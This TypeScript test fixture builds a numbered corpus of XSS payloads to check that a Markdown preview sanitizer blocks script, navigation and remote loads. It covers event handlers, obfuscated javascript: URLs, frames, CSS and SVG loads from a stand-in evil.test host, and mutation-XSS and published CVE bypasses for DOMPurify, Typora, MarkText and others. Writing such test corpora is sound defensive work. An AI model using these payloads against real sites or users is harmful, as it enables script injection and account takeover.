/**
 * The preview XSS corpus (issue 9, "Nothing injected"): Markdown and raw HTML that tries to run
 * script, navigate the window or load from another host. Every payload is stamped with its own
 * number `n`: script calls `__xss(n)` (the sentinel the spec installs), remote URLs name the host
 * `x<n>.evil.test`, so whatever fires says which payload it was.
 */

/** One payload: `markdown` goes into a post as one block of its own. */
export interface XssPayload {
  id: number;
  family: string;
  name: string;
  markdown: string;
  /** Rendered on its own: with another of its kind beside it, only one would take effect. */
  alone: boolean;
}

/** What a payload template gets: its number, the sentinel call and a host of its own. */
interface Stamp {
  n: number;
  /** `__xss(n)` */
  call: string;
  /** `x<n>.evil.test` */
  host: string;
}

type Template = (stamp: Stamp) => string;

/** A page has one base URL and one pending refresh: these must not mask one another. */
const aloneNames = /^<(?:meta refresh|base href)>/;

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const svgDoc = (s: Stamp): string => `<svg xmlns="http://www.w3.org/2000/svg" onload="top.${s.call}"/>`;
const htmlDoc = (s: Stamp): string => `<script>parent.${s.call}</script>`;

// Every common element × every event handler, each with what it takes to fire unprompted.
const elements: Array<[string, (attributes: string) => string]> = [
  ...['a', 'abbr', 'b', 'blockquote', 'code', 'div', 'em', 'h1', 'kbd', 'mark', 'p', 'pre', 'section', 'span'].map(
    (tag): [string, (a: string) => string] => [tag, (a) => `<${tag} ${a}>x</${tag}>`],
  ),
  ['details', (a) => `<details open ${a}><summary>x</summary>y</details>`],
  ['li', (a) => `<ul><li ${a}>x</li></ul>`],
  ['td', (a) => `<table><tr><td ${a}>x</td></tr></table>`],
  ['img', (a) => `<img src="x" ${a}>`],
  ['video', (a) => `<video src="x" controls ${a}></video>`],
  ['audio', (a) => `<audio src="x" controls ${a}></audio>`],
  ['svg', (a) => `<svg width="20" height="20" ${a}><rect width="9" height="9"></rect></svg>`],
  ['math', (a) => `<math ${a}><mi>x</mi></math>`],
  ['marquee', (a) => `<marquee ${a}>x</marquee>`],
  ['input', (a) => `<input ${a}>`],
  ['button', (a) => `<button ${a}>x</button>`],
  ['select', (a) => `<select ${a}><option>x</option></select>`],
  ['textarea', (a) => `<textarea ${a}>x</textarea>`],
];
const handlers: Array<[string, string]> = [
  ['onclick', 'tabindex="0"'],
  ['onmouseover', ''],
  ['onpointerenter', ''],
  ['onfocus', 'tabindex="0" autofocus'],
  ['onfocusin', 'tabindex="0" autofocus'],
  ['onerror', 'src="x"'],
  ['onload', ''],
  ['onanimationstart', 'style="animation: pulse 10ms"'],
  ['ontoggle', 'open'],
  ['oncontentvisibilityautostatechange', 'style="content-visibility: auto"'],
];
const handlerPayloads: Array<[string, Template]> = elements.flatMap(([tag, wrap]) =>
  handlers.map(([handler, trigger]): [string, Template] => [
    `<${tag} ${handler}>`,
    (s) => wrap(`${handler}="${s.call}" ${trigger}`),
  ]),
);

// Script URLs: each spelling × each place a URL goes, in Markdown and in HTML.
const scriptUrls: Array<[string, Template]> = [
  ['javascript:', (s) => `javascript:${s.call}`],
  ['mixed case', (s) => `JaVaScRiPt:${s.call}`],
  ['leading space', (s) => ` javascript:${s.call}`],
  ['tab inside', (s) => `java\tscript:${s.call}`],
  ['newline entity', (s) => `jav&#x0A;ascript:${s.call}`],
  ['tab entity', (s) => `java&Tab;script:${s.call}`],
  ['decimal entities', (s) => `&#106;&#97;vascript:${s.call}`],
  ['colon entity', (s) => `javascript&colon;${s.call}`],
  ['percent-encoded body', (s) => `javascript:%5f%5fxss(${s.n})`],
  ['percent-encoded scheme', (s) => `%6Aavascript:${s.call}`],
  ['control character', (s) => `\u0001javascript:${s.call}`],
  ['comment-hidden', (s) => `javascript://%0a${s.call}`],
  ['vbscript:', (s) => `vbscript:msgbox(${s.n})`],
  ['data:text/html', (s) => `data:text/html,%3Cscript%3Eparent.${s.call}%3C/script%3E`],
  ['data: base64', (s) => `DaTa:text/html;base64,${b64(htmlDoc(s))}`],
  ['data:image/svg+xml', (s) => `data:image/svg+xml;base64,${b64(svgDoc(s))}`],
];
const urlPlaces: Array<[string, (url: string) => string]> = [
  ['Markdown link', (u) => `[link](<${u}>)`],
  ['Markdown image', (u) => `![image](<${u}>)`],
  ['<a href>', (u) => `<a href="${u}">link</a>`],
  ['<img src>', (u) => `<img src="${u}">`],
  ['<form action>', (u) => `<form action="${u}"><button>go</button></form>`],
  ['<svg><a href>', (u) => `<svg width="40" height="20"><a href="${u}"><text y="15">go</text></a></svg>`],
];
const urlPayloads: Array<[string, Template]> = urlPlaces.flatMap(([place, wrap]) =>
  scriptUrls.map(([spelling, url]): [string, Template] => [`${place} ${spelling}`, (s) => wrap(url(s))]),
);

// Written out: `$CALL`, `$HOST` and `$N` are the payload's stamp.
const handWritten: Record<string, Array<[string, Template | string]>> = {
  script: [
    ['<script>', `<script>$CALL</script>`],
    ['<SCRIPT> upper case', `<SCRIPT>$CALL</SCRIPT>`],
    ['inline script mid-paragraph', `text <script>$CALL</script> text`],
    ['<script src> remote', `<script src="https://$HOST/x.js"></script>`],
    ['<script src=data:>', `<script src="data:,$CALL"></script>`],
    ['<script type=module>', `<script type="module">$CALL</script>`],
    ['<script/xss>', `<script/xss>$CALL</script>`],
    ['nested split tag', `<scr<script>ipt>$CALL</scr</script>ipt>`],
    ['<svg><script>', `<svg><script>$CALL</script></svg>`],
    ['<svg><script href=data:>', `<svg><script href="data:,$CALL"></script></svg>`],
    ['<template><script>', `<template><script>$CALL</script></template>`],
    ['<img src=x onerror> unquoted', `<img src=x onerror=$CALL>`],
    ['<img/src/onerror> slashes', `<img/src=x/onerror=$CALL>`],
    ['onerror entity-encoded', `<img src=x onerror="&#95;&#95;xss&#40;$N&#41;">`],
    ['onerror JS unicode escape', `<img src=x onerror="\\u005f_xss($N)">`],
    ['newline before handler', `<img src=x\nonerror=$CALL>`],
    ['<image> parsed as <img>', `<image src=x onerror=$CALL>`],
    ['srcset with handler', `<img srcset=",,,,x" onerror=$CALL>`],
    ['<body onload>', `<body onload=$CALL>`],
    ['<svg onload>', `<svg onload=$CALL>`],
    ['<style onload>', `<style onload=$CALL></style>`],
    ['<details ontoggle>', `<details open ontoggle=$CALL>`],
    ['<input onfocus autofocus>', `<input onfocus=$CALL autofocus>`],
    ['popover onbeforetoggle', `<div popover id="p$N" onbeforetoggle=$CALL>x</div>`],
  ],
  frames: [
    ['<iframe src=javascript:>', `<iframe src="javascript:parent.$CALL"></iframe>`],
    ['<iframe srcdoc>', `<iframe srcdoc="<script>parent.$CALL</script>"></iframe>`],
    ['<iframe src=data:>', (s) => `<iframe src="data:text/html;base64,${b64(htmlDoc(s))}"></iframe>`],
    ['<iframe src> remote', `<iframe src="https://$HOST/"></iframe>`],
    ['<object data=javascript:>', `<object data="javascript:parent.$CALL"></object>`],
    ['<object data=data:svg>', (s) => `<object data="data:image/svg+xml;base64,${b64(svgDoc(s))}"></object>`],
    ['<object data> remote', `<object data="https://$HOST/x.swf"></object>`],
    ['<embed src=javascript:>', `<embed src="javascript:parent.$CALL">`],
    ['<embed src> remote', `<embed src="https://$HOST/x.svg">`],
    ['<frameset onload>', `<frameset onload=$CALL><frame src="https://$HOST/"></frameset>`],
    ['<portal src>', `<portal src="https://$HOST/"></portal>`],
  ],
  'meta, base and forms': [
    ['<meta refresh> javascript:', `<meta http-equiv="refresh" content="0;url=javascript:$CALL">`],
    ['<meta refresh> remote', `<meta http-equiv="refresh" content="0; url=https://$HOST/">`],
    ['<meta refresh> same origin', `<meta http-equiv="refresh" content="0;url=/?xss-$N">`],
    ['<meta refresh> data:', `<meta http-equiv="refresh" content="0;url=data:text/html,$CALL">`],
    [
      '<meta> CSP override',
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><img src=x onerror=$CALL>`,
    ],
    ['<base href> javascript:', `<base href="javascript:$CALL//"><a href="x">base</a>`],
    ['<base href> remote', `<base href="https://$HOST/"><img src="a.png"><a href="b">base</a>`],
    ['<link rel=stylesheet> remote', `<link rel="stylesheet" href="https://$HOST/x.css">`],
    ['<link rel=prefetch>', `<link rel="prefetch" href="https://$HOST/p">`],
    ['<button formaction>', `<form><button formaction="javascript:$CALL">go</button></form>`],
    ['<input type=image> remote', `<input type="image" src="https://$HOST/i.png">`],
    ['<a ping>', `<a href="#top" ping="https://$HOST/ping">ping</a>`],
    ['<isindex action>', `<isindex action="javascript:$CALL" type="image">`],
  ],
  'remote CSS and media': [
    ['style url()', `<div style="background: url(https://$HOST/a.png)">css</div>`],
    ['style URL() upper case', `<div style="BACKGROUND:URL('https://$HOST/a.png')">css</div>`],
    ['style url with CSS escape', `<div style="background: u\\72l(https://$HOST/a.png)">css</div>`],
    ['style url entity-encoded', `<div style="background: url&#40;https://$HOST/a.png)">css</div>`],
    ['style url() behind a comment', `<div style="background: url/**/(https://$HOST/a.png)">css</div>`],
    ['style image-set()', `<div style="background-image: image-set('https://$HOST/a.png' 1x)">css</div>`],
    ['style src()', `<div style="background-image: src('https://$HOST/a.png')">css</div>`],
    ['style cursor url()', `<div style="cursor: url(https://$HOST/c.cur), auto">css</div>`],
    ['style list-style-image', `<ul style="list-style-image: url(https://$HOST/l.png)"><li>x</li></ul>`],
    ['style @import', `<div style="@import 'https://$HOST/x.css'">css</div>`],
    ['<style> @import', `<style>@import url(https://$HOST/x.css);</style>`],
    ['<svg><style> url()', `<svg><style>rect{fill:url(https://$HOST/f.svg#f)}</style><rect/></svg>`],
    ['SVG fill url()', `<svg><rect width="9" height="9" fill="url(https://$HOST/f.svg#p)"></rect></svg>`],
    ['SVG filter escaped url', `<svg><rect width="9" height="9" filter="u\\72l(https://$HOST/f.svg#f)"></rect></svg>`],
    ['SVG <image href> remote', `<svg><image href="https://$HOST/i.png" width="9" height="9"></image></svg>`],
    ['SVG <use href> remote', `<svg><use href="https://$HOST/u.svg#u"></use></svg>`],
    ['SVG <feImage> remote', `<svg><filter id="f$N"><feImage href="https://$HOST/f.png"/></filter></svg>`],
    ['SVG gradient href remote', `<svg><linearGradient href="https://$HOST/g.svg#g"></linearGradient></svg>`],
    ['<img src> remote', `<img src="https://$HOST/a.png">`],
    ['<img src> protocol-relative', `<img src="//$HOST/a.png">`],
    ['<img srcset> remote', `<img srcset="https://$HOST/a.png 2x">`],
    ['<picture><source> remote', `<picture><source srcset="https://$HOST/a.webp"><img src="x.png"></picture>`],
    ['<video poster> remote', `<video poster="https://$HOST/p.png"></video>`],
    ['<audio><track> remote', `<audio src="x.mp3"><track src="https://$HOST/t.vtt"></audio>`],
    ['<table background>', `<table background="https://$HOST/b.png"><tr><td>x</td></tr></table>`],
    ['<math><mglyph src>', `<math><mglyph src="https://$HOST/g.png"></mglyph></math>`],
    ['Markdown image remote', `![remote](https://$HOST/a.png)`],
    ['loopback on another port', `<img src="http://127.0.0.1:1/xss-$N.png">`],
  ],
  'SVG and MathML': [
    ['<svg><animate onbegin>', `<svg><animate onbegin=$CALL attributeName="x" dur="1s"></animate></svg>`],
    ['<svg><set> handler', `<svg><set attributeName="onmouseover" to="$CALL"></set></svg>`],
    [
      '<svg><animate> href to javascript:',
      `<svg><a><animate attributeName="href" values="javascript:$CALL"></animate><text y="15">a</text></a></svg>`,
    ],
    [
      '<svg><foreignObject><iframe>',
      `<svg><foreignObject><iframe srcdoc="<script>parent.$CALL</script>"></iframe></foreignObject></svg>`,
    ],
    ['<svg><desc> HTML point', `<svg><desc><img src=x onerror=$CALL></desc></svg>`],
    ['<svg><title> HTML point', `<svg><title><img src=x onerror=$CALL></title></svg>`],
    ['<svg><a xlink:href>', `<svg><a xlink:href="javascript:$CALL"><text y="15">a</text></a></svg>`],
    ['<math> href', `<math href="javascript:$CALL"><mi>x</mi></math>`],
    ['<maction xlink:href>', `<math><maction actiontype="statusline" xlink:href="javascript:$CALL">x</maction></math>`],
    [
      '<annotation-xml> HTML',
      `<math><annotation-xml encoding="text/html"><img src=x onerror=$CALL></annotation-xml></math>`,
    ],
    ['<svg><discard onbegin>', `<svg><discard onbegin=$CALL></discard></svg>`],
  ],
  'mutation XSS': [
    ['DOMPurify 2.0.0 bypass (CVE-2019-16728)', `<svg></p><style><a id="</style><img src=1 onerror=$CALL>">`],
    [
      'mglyph/style namespace confusion',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=$CALL&gt;">`,
    ],
    ['<noscript> title', `<noscript><p title="</noscript><img src=x onerror=$CALL>">`],
    ['<xmp> title', `<xmp><p title="</xmp><img src=x onerror=$CALL>">`],
    ['<noembed> title', `<noembed><img title="</noembed><img src onerror=$CALL>">`],
    ['<noframes> title', `<noframes><img title="</noframes><img src onerror=$CALL>">`],
    ['<iframe> text', `<iframe><img title="</iframe><img src onerror=$CALL>">`],
    ['<textarea> text', `<textarea><img title="</textarea><img src onerror=$CALL>">`],
    ['<title> text', `<title><img title="</title><img src onerror=$CALL>">`],
    ['<template> content', `<template><img title="</template><img src onerror=$CALL>">`],
    ['mtext textarea path', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=$CALL src=1>">`],
    ['foreignObject style', `<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;$CALL>">`],
    [
      'select template style',
      `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=$CALL>">`,
    ],
    // DOMPurify's 2024 nesting-depth bypasses (CVE-2024-45801, CVE-2024-47875).
    [
      'deep nesting',
      (s) =>
        `${'<div>'.repeat(520)}<svg><p><style><img src=x onerror=${s.call}></style></p></svg>${'</div>'.repeat(520)}`,
    ],
  ],
  'comments and CDATA': [
    ['<!--> short comment', `<!--><img src=x onerror=$CALL>-->`],
    ['--!> comment end', `<!-- --!><img src=x onerror=$CALL>-->`],
    ['comment in attribute', `<!--<img src="--><img src=x onerror=$CALL//">`],
    ['CDATA in HTML', `<![CDATA[><img src=x onerror=$CALL>]]>`],
    ['CDATA in SVG', `<svg><![CDATA[><img src=x onerror=$CALL>]]></svg>`],
    ['conditional comment', `<!--[if]><img src=x onerror=$CALL>-->`],
    ['processing instruction', `<?xml ><img src=x onerror=$CALL>?>`],
    ['doctype', `<!DOCTYPE x><img src=x onerror=$CALL>`],
    ['comment closing SVG', `<svg><!--</svg><img src=x onerror=$CALL>-->`],
  ],
  Markdown: [
    ['autolink javascript:', `<javascript:$CALL>`],
    ['reference link javascript:', `[ref][r$N]\n\n[r$N]: javascript:$CALL`],
    ['link title breakout', `[a](https://example.com "\\"onmouseover=$CALL x=\\"")`],
    ['image alt breakout', `![" onerror="$CALL](x.png)`],
    ['HTML in link text', `[<img src=x onerror=$CALL>](https://example.com)`],
    ['HTML in table cell', `| a |\n| - |\n| <img src=x onerror=$CALL> |`],
    ['HTML in task list', `- [ ] <img src=x onerror=$CALL>`],
    ['HTML in heading', `## <img src=x onerror=$CALL>`],
    ['code span', `\`<img src=x onerror=$CALL>\``],
    ['Liquid relative_url to javascript:', `[liquid]({{ 'javascript:$CALL' | relative_url }})`],
    ['Liquid raw block', `{% raw %}<img src=x onerror=$CALL>{% endraw %}`],
    ['Liquid baseurl in handler', `<img src="{{ site.baseurl }}/x" onerror="$CALL">`],
  ],
  'DOM clobbering': [
    ['<img name=getElementById>', `<img name="getElementById" src="x.png">`],
    ['<a id=lanyard>', `<a id="lanyard" href="#x">x</a>`],
    ['<img name=body>', `<img name="body" src="x.png">`],
    ['<a id=__xss>', `<a id="__xss" href="#x">x</a>`],
  ],
  'published bugs in other Markdown editors': [
    // Joplin CVE-2020-15930: an <embed> in a note ran script (laurent22/joplin#3552).
    ['Joplin CVE-2020-15930', (s) => `<embed src="data:image/svg+xml;base64,${b64(svgDoc(s))}" type="image/svg+xml">`],
    // MarkText CVE-2021-29996: HTML in a fenced block's language (marktext/marktext#2548).
    ['MarkText CVE-2021-29996', `\`\`\`<style/onload=$CALL>\ncode\n\`\`\``],
    // MarkText CVE-2023-2318: a pasted link whose text is markup (marktext/marktext#3618).
    [
      'MarkText CVE-2023-2318',
      `<a href="https://example.com/&lt;img src=x onerror=$CALL&gt;">https://example.com/&lt;img src=x onerror=$CALL&gt;</a>`,
    ],
    // MarkText mXSS through DOMPurify CVE-2020-26870 (marktext/marktext#2360).
    [
      'MarkText mXSS (DOMPurify CVE-2020-26870)',
      `<form>\n<math><mtext>\n</form><form>\n<mglyph>\n<style></math><img src onerror=$CALL>`,
    ],
    // MarkText: an <embed> of an SVG with script (marktext/marktext#1390).
    [
      'MarkText embed SVG',
      (s) =>
        `<embed src="data:image/svg+xml;base64,${b64(svgDoc(s))}" type="image/svg+xml" AllowScriptAccess="always"></embed>`,
    ],
    // MarkText: pasted table markup (marktext/marktext#2990).
    ['MarkText pasted table', `<table><tr><img src onerror="$CALL"></tr></table>`],
    // Typora CVE-2023-2317: its own updater page embedded with markup in a label.
    [
      'Typora CVE-2023-2317',
      `<embed src="typora://app/typemark/updater/update.html?curVersion=1&newVersion=2&releaseNoteLink=3&hideAutoUpdates=false&labels=[&quot;&quot;,&quot;<svg/onload=top.$CALL>&quot;,&quot;&quot;,&quot;&quot;,&quot;&quot;,&quot;&quot;]">`,
    ],
    // Typora 0.9.65: srcdoc iframe inside SVG (typora/typora-issues#2204).
    ['Typora svg srcdoc', `<svg>\n<iframe srcdoc="<img src=1 onerror=parent.$CALL>"></iframe>`],
    // Typora 0.9.67: srcdoc iframe inside ruby (typora/typora-issues#2297).
    [
      'Typora ruby srcdoc',
      `<ruby> 漢 <rt> <iframe srcdoc="<img src=1 onerror=parent.$CALL>"></iframe>ㄢˋ </rt> </ruby>`,
    ],
    // Typora 0.9.68: an empty script first (typora/typora-issues#2310).
    ['Typora empty script', `<script></script><img src=1 onerror=$CALL>`],
    // Typora: math block closing its script (typora/typora-issues#2129, #3995).
    ['Typora math block', `$$\n</script><img src=1 onerror="$CALL">\n$$`],
    // Typora: script tag as an image URL (typora/typora-issues#1943).
    ['Typora image script', `![](<script  #src="https://$HOST/1.js">`],
    // Typora: script in a heading, run by the outline (typora/typora-issues#2124).
    ['Typora heading script', `# <script src=https://$HOST/xss.js></script>`],
    // Typora: image map area to a file: URL (typora/typora-issues#2166).
    [
      'Typora area file:',
      `<img src="x.png" usemap="#m$N"><map name="m$N"><area shape="rect" coords="0,0,82,126" href="file:///usr/bin/xcalc"></map>`,
    ],
    // Typora: mXSS through DOMPurify in Mermaid labels (typora/typora-issues#3124).
    ['Typora mXSS', `<svg></p><style><g title="</style><img src onerror=$CALL>">`],
    // Zettlr 1.8.7: iframe onload (Zettlr/Zettlr#1716).
    ['Zettlr iframe onload', `<iframe src=x onload="$CALL"></iframe>`],
    // Boostnote: iframe in a Mermaid label (BoostIO/BoostNote-Legacy#3007).
    ['Boostnote mermaid', `\`\`\`mermaid\ngraph LR\nid1["<iframe src=javascript:$CALL></iframe>"]\n\`\`\``],
    // Boostnote: handlers on any tag (BoostIO/BoostNote-Legacy#1443).
    ['Boostnote svg onmouseover', `<svg onmouseover="$CALL"/>`],
    // Leanote desktop: iframe javascript: (leanote/desktop-app#345).
    ['Leanote iframe javascript:', `<iframe src='javascript:parent.$CALL'></iframe>`],
    // Leanote desktop: video onerror (leanote/desktop-app#364).
    ['Leanote video onerror', `<video src=x onerror=$CALL>`],
    // Leanote CVE-2017-1000459: javascript: links in notes (leanote/leanote#676).
    ['Leanote CVE-2017-1000459', `test <a name="n" href="javascript:$CALL">*xss*</a>`],
    // Leanote CVE-2019-1010003: upper-case IMG (leanote/leanote#719).
    ['Leanote CVE-2019-1010003', `<IMG SRC=/ onerror="$CALL"></img>`],
    // Notable 1.8.4: iframe to a remote host (notable/notable#1364).
    ['Notable remote iframe', `<iframe src=https://$HOST/></iframe>`],
    // Eclipse Theia: <style onload> in the Markdown preview (eclipse-theia/theia#7954).
    ['Theia style onload', `<style onload="$CALL">`],
    // markdown-preview.nvim: srcdoc iframe (iamcco/markdown-preview.nvim#542).
    ['markdown-preview.nvim srcdoc', `<iframe srcdoc="<script>parent.$CALL</script>"></iframe>`],
    // kkFileView: javascript: link throwing into onerror (kekingcn/kkFileView#515).
    ['kkFileView onerror throw', `[XSS](javascript:window.onerror=function(){$CALL};throw%201)`],
    // VS Code before 1.10.2 ran scripts in previewed Markdown (microsoft/vscode#22268).
    ['VS Code preview script', `<script>$CALL</script>`],
    // marked's sanitizer bypass with entity-encoded colon (npm marked, 2015).
    ['marked entity colon', `[x](javascript&#58document;__xss&#40;$N&#41;)`],
  ],
};

function build(): XssPayload[] {
  const groups: Array<[string, Array<[string, Template | string]>]> = [
    ['event handlers', handlerPayloads],
    ['script URLs', urlPayloads],
    ...Object.entries(handWritten),
  ];
  const payloads: XssPayload[] = [];
  for (const [family, entries] of groups) {
    for (const [name, template] of entries) {
      const n = payloads.length + 1;
      const stamp = { n, call: `__xss(${n})`, host: `x${n}.evil.test` };
      const markdown =
        typeof template === 'string'
          ? template.replaceAll('$CALL', stamp.call).replaceAll('$HOST', stamp.host).replaceAll('$N', String(n))
          : template(stamp);
      payloads.push({ id: n, family, name, markdown, alone: aloneNames.test(name) });
    }
  }
  return payloads;
}

/** The whole corpus, numbered from 1. */
export const xssCorpus: readonly XssPayload[] = build();

/** The payload number an URL carries (`x<n>.evil.test`, `xss-<n>`), or null. */
export function payloadIdInUrl(url: string): number | null {
  const match = /\bx(\d+)\.evil\.test|xss-(\d+)/i.exec(url);
  return match ? Number(match[1] ?? match[2]) : null;
}
